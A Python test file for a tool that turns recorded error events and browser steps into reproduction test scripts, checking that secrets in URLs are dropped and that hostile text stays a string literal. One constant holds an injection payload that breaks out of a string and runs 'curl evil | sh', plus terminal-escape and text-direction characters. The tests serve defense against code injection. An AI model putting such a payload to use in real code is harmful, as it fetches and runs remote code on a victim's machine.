"""Sketches: what was recorded, as a test that only compares what an event said."""

from __future__ import annotations

import ast
from typing import Any, cast

from devintel.model import Event
from devintel.projection.views.shapes import ErrorDetail
from devintel.reproduction.sketch import sketch

HOSTILE = '"""\nimport os; os.system("curl evil | sh")\n"""\x1b[31m\u202e'


def group(**fields: Any) -> ErrorDetail:
    found = {
        "fingerprint": "1:75405ee569cc43ee",
        "type": "NameError",
        "title": "NameError: name 'totl' is not defined",
        "message": "name 'totl' is not defined",
        "command": "",
        "sample": {"content": {}},
    }
    return cast(ErrorDetail, found | fields)


def page(address: str) -> dict[str, Any]:
    return {"content": {"url": address}}


def test_a_run_is_run_again_and_its_words_may_not_be_printed() -> None:
    test = sketch(group(command="python app.py"))

    assert "COMMAND = 'python app.py'" in test
    assert """SAID = ["name 'totl' is not defined"]""" in test
    assert "def test_no_nameerror_69cc43ee():" in test


def test_a_page_is_opened_and_its_recorded_steps_are_done() -> None:
    clicked = {"type": "user", "content": {"action": "click", "selector": "#pay"}}
    typed = {"type": "user", "content": {"action": "input", "selector": "#n", "value": "3"}}
    steps = [cast(Event, one) for one in (typed, clicked)]
    test = sketch(group(sample=page("https://shop.example/cart?token=secret#x")), steps)

    assert "ADDRESS = 'https://shop.example/cart'" in test
    assert "    page.fill('#n', '3')\n    page.click('#pay')\n" in test
    assert "secret" not in test


def test_what_cannot_be_done_again_has_no_sketch() -> None:
    assert sketch(group()) == ""


def test_whatever_an_event_says_stays_a_literal() -> None:
    for given in (
        group(command=HOSTILE, message=HOSTILE, type=HOSTILE, fingerprint=HOSTILE),
        group(sample=page("https://shop.example/" + HOSTILE), message=HOSTILE, type=HOSTILE),
    ):
        tree = ast.parse(sketch(given))
        calls = {
            node.func.attr
            for node in ast.walk(tree)
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
        }
        assert "system" not in calls
        assert "\x1b" not in sketch(given)
